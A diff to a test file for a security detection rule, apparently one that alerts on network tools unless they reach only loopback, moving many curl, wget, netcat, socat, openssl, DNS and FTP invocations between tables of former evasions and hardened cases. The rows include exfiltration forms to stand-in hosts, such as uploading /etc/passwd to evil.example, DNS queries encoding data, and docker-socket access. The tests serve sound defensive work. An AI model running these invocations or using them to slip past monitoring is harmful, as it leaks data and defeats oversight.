@@ -10,25 +10,109 @@ import { networkTargets, targetsAreLoopbackOnly } from "../../lib/rule/targets.j
 
 type Row = [utility: string, args: string[], targets: string[] | undefined, excepted: boolean];
 
-/** Invocations an attacker can use to earn the exception today: every one must alert. */
+/** Invocations that earned the exception before issue 9 (ffac14e excepts every one) and must alert now. */
 const EVASIONS: Row[] = [
   // curl: clustered short options with a glued value, and options whose value is the real destination.
   ["curl", ["-sx192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"], false],
-  ["curl", ["-sSLx", "192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"], false],
-  ["curl", ["-fsSx", "evil.example:8080", "http://127.0.0.1/"], ["127.0.0.1", "evil.example"], false],
   [
     "curl",
     ["--connect-to", "localhost:80:evil.example:80", "http://localhost/"],
     ["localhost", "localhost", "evil.example"],
     false,
   ],
-  ["curl", ["--connect-to", "::192.0.2.1:", "http://localhost/"], ["localhost", "192.0.2.1"], false],
   [
     "curl",
     ["--resolve", "localhost:80:192.0.2.1", "http://localhost/"],
     ["localhost", "localhost", "192.0.2.1"],
     false,
   ],
+  // config files, URL lists, state files that send a host elsewhere, local sockets.
+  ["curl", ["-sK/tmp/cfg", "http://localhost/"], undefined, false],
+  // wget: -e runs .wgetrc commands (use_proxy, http_proxy), prefixes resolve, input files.
+  ["wget", ["--exec=http_proxy=192.0.2.1:3128", "http://localhost/"], undefined, false],
+  ["wget", ["--input=/tmp/urls", "http://localhost/"], undefined, false],
+  ["wget", ["--use-askpass=/tmp/x", "http://localhost/"], undefined, false],
+  // `--hsts` is a flag: it must not swallow the URL after it as if it were `--hsts-file`'s value.
+  ["wget", ["--bogus", "http://localhost/"], undefined, false],
+  // netcat: options the old table did not know, whose value was then taken for the host.
+  ["nc.openbsd", ["-zvx192.0.2.1:1080", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
+  ["nc.traditional", ["-g", "192.0.2.1", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
+  ["nc.traditional", ["-y", "localhost", "evil.example", "80"], undefined, false],
+  ["ncat", ["-g", "192.0.2.1,192.0.2.2", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1", "192.0.2.2"], false],
+  // plain nc may be any netcat: `-x` is a proxy to OpenBSD's, a hex-dump file to ncat's.
+  ["nc", ["-g", "192.0.2.1", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
+  ["nc", ["-c", "evil.example", "127.0.0.1", "443"], ["127.0.0.1"], false],
+  // socat: dual addresses, proxy forms, address types the old table did not know.
+  ["socat", ["TCP:127.0.0.1:80!!TCP:192.0.2.1:80", "STDIO"], ["127.0.0.1", "192.0.2.1"], false],
+  ["socat", ["STDIO", "PROXY:127.0.0.1:evil.example:443"], ["127.0.0.1", "evil.example"], false],
+  ["socat", ["STDIO", "SOCKS4:127.0.0.1:evil.example:80"], ["127.0.0.1", "evil.example"], false],
+  ["socat", ["TCP:localhost:80", "UNIX-CONNECT:/var/run/docker.sock"], undefined, false],
+  ["socat", ["TCP:localhost:80", "ABSTRACT-CONNECT:/containerd-shim/x.sock"], undefined, false],
+  ["socat", ["TCP:localhost:80", "VSOCK-CONNECT:2:80"], undefined, false],
+  ["socat", ["TCP:localhost:80", "TUN:10.0.0.1/24"], undefined, false],
+  ["socat", ["TCP:localhost:80", "FUTURE-TYPE:evil.example:80"], undefined, false],
+  // openssl: -proxy, the positional host, option spellings, code loaded at start.
+  [
+    "openssl",
+    ["s_client", "-connect", "localhost:443", "-proxy", "192.0.2.1:3128"],
+    ["localhost", "192.0.2.1"],
+    false,
+  ],
+  [
+    "openssl",
+    ["s_client", "-connect", "localhost:443", "evil.example:443"],
+    ["localhost", "evil.example"],
+    false,
+  ],
+  [
+    "openssl",
+    ["s_client", "-connect", "localhost:443", "-provider-path", "/tmp", "-provider", "x"],
+    undefined,
+    false,
+  ],
+  ["openssl", ["s_client", "-connect", "localhost:443", "-engine", "/tmp/e.so"], undefined, false],
+  ["openssl", ["s_server", "-accept", "127.0.0.1:4433", "-status"], undefined, false],
+  [
+    "openssl",
+    ["s_server", "-accept", "127.0.0.1:4433", "-status_url", "http://evil.example/"],
+    ["127.0.0.1", "evil.example"],
+    false,
+  ],
+  // DNS: names queried, wherever they are written.
+  [
+    "dig",
+    ["localhost", "+domain=c2VjcmV0.leak.example", "+search"],
+    ["localhost", "c2VjcmV0.leak.example"],
+    false,
+  ],
+  ["dig", ["+trace", "localhost"], undefined, false],
+  ["dig", ["-z", "localhost"], undefined, false],
+  [
+    "nslookup",
+    ["-domain=c2VjcmV0.leak.example", "-search", "localhost", "127.0.0.1"],
+    ["localhost", "c2VjcmV0.leak.example"],
+    false,
+  ],
+  ["nslookup", ["-bogus", "localhost"], undefined, false],
+  // transfer clients.
+  ["aria2c", ["--all-proxy=192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"], false],
+  ["aria2c", ["--conf-path=/tmp/conf", "http://localhost/"], undefined, false],
+  ["aria2c", ["http://localhost/f\thttp://evil.example/f"], ["localhost", "evil.example"], false],
+  ["tftp", ["localhost", "-c", "get", "evil.example:secret"], ["localhost", "evil.example"], false],
+  ["tftp", ["localhost"], ["localhost"], false],
+  ["ftp", ["localhost"], ["localhost"], false],
+  ["telnet", ["-l", "user", "localhost", "25"], ["localhost"], false],
+];
+
+/**
+ * Invocations the base code already alerted on, in the form written here: kept so that the grammars read them
+ * as the tools do (targets shown, prefixes resolved, opaque options) and never start excepting them.
+ */
+const HARDENED: Row[] = [
+  // curl: clustered short options with a glued value, and options whose value is the real destination.
+  ["curl", ["-sSLx", "192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"], false],
+  ["curl", ["-fsSx", "evil.example:8080", "http://127.0.0.1/"], ["127.0.0.1", "evil.example"], false],
+  ["curl", ["--connect-to", "::192.0.2.1:", "http://localhost/"], ["localhost", "192.0.2.1"], false],
   [
     "curl",
     ["--resolve", "+localhost:80:127.0.0.1,[2001:db8::1]", "http://localhost/"],
@@ -54,7 +138,6 @@ const EVASIONS: Row[] = [
   ["curl", ["--prox", "192.0.2.1", "http://localhost/"], undefined, false],
   // config files, URL lists, state files that send a host elsewhere, local sockets.
   ["curl", ["-K", "/tmp/cfg", "http://localhost/"], undefined, false],
-  ["curl", ["-sK/tmp/cfg", "http://localhost/"], undefined, false],
   ["curl", ["--config", "/tmp/cfg", "http://localhost/"], undefined, false],
   ["curl", ["--url", "@/tmp/urls", "http://localhost/"], undefined, false],
   ["curl", ["--alt-svc", "/tmp/altsvc", "https://localhost/"], undefined, false],
@@ -81,95 +164,51 @@ const EVASIONS: Row[] = [
   ],
   // wget: -e runs .wgetrc commands (use_proxy, http_proxy), prefixes resolve, input files.
   ["wget", ["-e", "use_proxy=on", "-e", "http_proxy=192.0.2.1:3128", "http://localhost/"], undefined, false],
-  ["wget", ["--exec=http_proxy=192.0.2.1:3128", "http://localhost/"], undefined, false],
   ["wget", ["--execute", "http_proxy=192.0.2.1:3128", "http://localhost/"], undefined, false],
   ["wget", ["-qe", "http_proxy=192.0.2.1:3128", "http://localhost/"], undefined, false],
-  ["wget", ["--input=/tmp/urls", "http://localhost/"], undefined, false],
   ["wget", ["-i", "/tmp/urls", "http://localhost/"], undefined, false],
   ["wget", ["--config=/tmp/wgetrc", "http://localhost/"], undefined, false],
   ["wget", ["--conf", "/tmp/wgetrc", "http://localhost/"], undefined, false],
-  ["wget", ["--use-askpass=/tmp/x", "http://localhost/"], undefined, false],
   ["wget", ["-B", "http://evil.example/", "http://localhost/"], ["localhost", "evil.example"], false],
   // `--hsts` is a flag: it must not swallow the URL after it as if it were `--hsts-file`'s value.
   ["wget", ["--hsts", "http://evil.example/", "http://localhost/"], ["evil.example", "localhost"], false],
-  ["wget", ["--bogus", "http://localhost/"], undefined, false],
   // netcat: options the old table did not know, whose value was then taken for the host.
   ["nc", ["-P", "user", "evil.example", "80"], ["evil.example"], false],
   ["nc.openbsd", ["-P", "user", "evil.example", "80"], ["evil.example"], false],
   ["nc.openbsd", ["-x", "192.0.2.1:1080", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
-  ["nc.openbsd", ["-zvx192.0.2.1:1080", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
   ["nc.openbsd", ["127.0.0.1", "80", "-x", "192.0.2.1"], ["127.0.0.1", "192.0.2.1"], false],
   ["nc.openbsd", ["-U", "/var/run/docker.sock"], undefined, false],
   ["nc.traditional", ["-o", "/tmp/dump", "evil.example", "80"], ["evil.example"], false],
-  ["nc.traditional", ["-g", "192.0.2.1", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
-  ["nc.traditional", ["-y", "localhost", "evil.example", "80"], undefined, false],
   ["ncat", ["-o", "/tmp/log", "evil.example", "80"], ["evil.example"], false],
   ["ncat", ["--proxy", "192.0.2.1:3128", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
   ["ncat", ["--prox", "192.0.2.1:3128", "127.0.0.1", "80"], undefined, false],
   ["ncat", ["--proxy=192.0.2.1:3128", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
-  ["ncat", ["-g", "192.0.2.1,192.0.2.2", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1", "192.0.2.2"], false],
   ["ncat", ["--vsock", "2", "80"], undefined, false],
   // plain nc may be any netcat: `-x` is a proxy to OpenBSD's, a hex-dump file to ncat's.
   ["nc", ["-x", "192.0.2.1:1080", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
-  ["nc", ["-g", "192.0.2.1", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
-  ["nc", ["-c", "evil.example", "127.0.0.1", "443"], ["127.0.0.1"], false],
   // socat: dual addresses, proxy forms, address types the old table did not know.
-  ["socat", ["TCP:127.0.0.1:80!!TCP:192.0.2.1:80", "STDIO"], ["127.0.0.1", "192.0.2.1"], false],
-  ["socat", ["STDIO", "PROXY:127.0.0.1:evil.example:443"], ["127.0.0.1", "evil.example"], false],
   ["socat", ["STDIO", "PROXY:192.0.2.1:localhost:80"], ["192.0.2.1", "localhost"], false],
-  ["socat", ["STDIO", "SOCKS4:127.0.0.1:evil.example:80"], ["127.0.0.1", "evil.example"], false],
   ["socat", ["STDIO", "SOCKS4A:192.0.2.1:localhost:80"], ["192.0.2.1", "localhost"], false],
   ["socat", ["STDIO", "SOCKS5:192.0.2.1:1080:localhost:80"], ["192.0.2.1", "localhost"], false],
   ["socat", ["STDIO", "IP4-SENDTO:192.0.2.1:253"], ["192.0.2.1"], false],
   ["socat", ["STDIO", "UDP4-DATAGRAM:192.0.2.255:53,broadcast"], ["192.0.2.255"], false],
   ["socat", ["STDIO", "IP-SENDTO:192.0.2.1:253"], ["192.0.2.1"], false],
-  ["socat", ["TCP:localhost:80", "UNIX-CONNECT:/var/run/docker.sock"], undefined, false],
-  ["socat", ["TCP:localhost:80", "ABSTRACT-CONNECT:/containerd-shim/x.sock"], undefined, false],
   ["socat", ["TCP:localhost:80", "OPENSSL-CONNECT:evil.example:443"], ["localhost", "evil.example"], false],
   ["socat", ["STDIO", "TCP-CONNECT:evil.example:80"], ["evil.example"], false],
   ["socat", ["STDIO", "SCTP-CONNECT:192.0.2.1:80"], ["192.0.2.1"], false],
-  ["socat", ["TCP:localhost:80", "VSOCK-CONNECT:2:80"], undefined, false],
   ["socat", ["STDIO", "SSL:evil.example:443"], ["evil.example"], false],
-  ["socat", ["TCP:localhost:80", "TUN:10.0.0.1/24"], undefined, false],
-  ["socat", ["TCP:localhost:80", "FUTURE-TYPE:evil.example:80"], undefined, false],
   ["socat", ["-lf", "TCP:127.0.0.1:80", "STDIO", "TCP:192.0.2.1:80"], ["192.0.2.1"], false],
   ["socat", ["-d", "-d", "STDIO", "TCP:127.0.0.1:80", "TCP:192.0.2.1:80"], undefined, false],
   // openssl: -proxy, the positional host, option spellings, code loaded at start.
-  [
-    "openssl",
-    ["s_client", "-connect", "localhost:443", "-proxy", "192.0.2.1:3128"],
-    ["localhost", "192.0.2.1"],
-    false,
-  ],
   [
     "openssl",
     ["s_client", "-connect=localhost:443", "-proxy=192.0.2.1:3128"],
     ["localhost", "192.0.2.1"],
     false,
   ],
-  [
-    "openssl",
-    ["s_client", "-connect", "localhost:443", "evil.example:443"],
-    ["localhost", "evil.example"],
-    false,
-  ],
   ["openssl", ["s_client", "-host", "evil.example", "-port", "443"], ["evil.example"], false],
-  [
-    "openssl",
-    ["s_client", "-connect", "localhost:443", "-provider-path", "/tmp", "-provider", "x"],
-    undefined,
-    false,
-  ],
-  ["openssl", ["s_client", "-connect", "localhost:443", "-engine", "/tmp/e.so"], undefined, false],
   ["openssl", ["s_client", "-unix", "/var/run/x.sock"], undefined, false],
   ["openssl", ["s_server", "-accept", "4433"], undefined, false],
-  ["openssl", ["s_server", "-accept", "127.0.0.1:4433", "-status"], undefined, false],
-  [
-    "openssl",
-    ["s_server", "-accept", "127.0.0.1:4433", "-status_url", "http://evil.example/"],
-    ["127.0.0.1", "evil.example"],
-    false,
-  ],
   // DNS: names queried, wherever they are written.
   [
     "dig",
@@ -178,39 +217,17 @@ const EVASIONS: Row[] = [
     false,
   ],
   ["dig", ["-qc2VjcmV0.leak.example", "localhost"], ["c2VjcmV0.leak.example", "localhost"], false],
-  [
-    "dig",
-    ["localhost", "+domain=c2VjcmV0.leak.example", "+search"],
-    ["localhost", "c2VjcmV0.leak.example"],
-    false,
-  ],
-  ["dig", ["+trace", "localhost"], undefined, false],
   ["dig", ["-f", "/tmp/names", "localhost"], undefined, false],
-  ["dig", ["-z", "localhost"], undefined, false],
   ["kdig", ["localhost", "-q", "x.leak.example"], ["x.leak.example", "localhost"], false],
   ["drill", ["-f", "/tmp/packet", "localhost"], undefined, false],
   ["host", ["-l", "leak.example", "127.0.0.1"], ["leak.example"], false],
-  [
-    "nslookup",
-    ["-domain=c2VjcmV0.leak.example", "-search", "localhost", "127.0.0.1"],
-    ["localhost", "c2VjcmV0.leak.example"],
-    false,
-  ],
-  ["nslookup", ["-bogus", "localhost"], undefined, false],
   ["nslookup", ["-", "127.0.0.1"], undefined, false],
   // transfer clients.
-  ["aria2c", ["--all-proxy=192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"], false],
   ["aria2c", ["--http-proxy", "192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"], false],
   ["aria2c", ["-i", "/tmp/urls", "http://localhost/"], undefined, false],
-  ["aria2c", ["--conf-path=/tmp/conf", "http://localhost/"], undefined, false],
-  ["aria2c", ["http://localhost/f\thttp://evil.example/f"], ["localhost", "evil.example"], false],
   ["lwp-request", ["-p", "http://192.0.2.1:3128/", "http://localhost/"], ["localhost", "192.0.2.1"], false],
   ["lwp-request", ["-b", "http://evil.example/", "x"], ["x", "evil.example"], false],
-  ["tftp", ["localhost", "-c", "get", "evil.example:secret"], ["localhost", "evil.example"], false],
-  ["tftp", ["localhost"], ["localhost"], false],
-  ["ftp", ["localhost"], ["localhost"], false],
   ["ftp", ["-u", "ftp://evil.example/up", "/etc/passwd"], ["evil.example"], false],
-  ["telnet", ["-l", "user", "localhost", "25"], ["localhost"], false],
 ];
 
 /** Legitimate loopback uses: still excepted, or the product raises false alerts. */
@@ -259,6 +276,13 @@ const LOOPBACK: Row[] = [
 
 describe("loopback exception fails closed", () => {
   it.each(EVASIONS)("%s %j → %j, excepted %s", (utility, args, targets, excepted) => {
+    expect(networkTargets(utility, args)).toEqual(targets);
+    expect(targetsAreLoopbackOnly(utility, args)).toBe(excepted);
+  });
+});
+
+describe("already alerting, read as the tools read them", () => {
+  it.each(HARDENED)("%s %j → %j, excepted %s", (utility, args, targets, excepted) => {
     expect(networkTargets(utility, args)).toEqual(targets);
     expect(targetsAreLoopbackOnly(utility, args)).toBe(excepted);
   });
